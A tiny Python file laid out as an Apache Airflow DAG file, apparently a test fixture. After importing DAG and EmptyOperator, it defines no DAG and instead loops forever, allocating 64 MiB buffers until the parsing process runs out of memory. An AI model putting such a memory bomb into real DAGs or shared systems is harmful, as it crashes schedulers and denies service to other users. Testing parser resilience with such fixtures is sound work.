from airflow.sdk import DAG
from airflow.providers.standard.operators.empty import EmptyOperator
hoard = []
while True:
    hoard.append(bytearray(64 << 20))
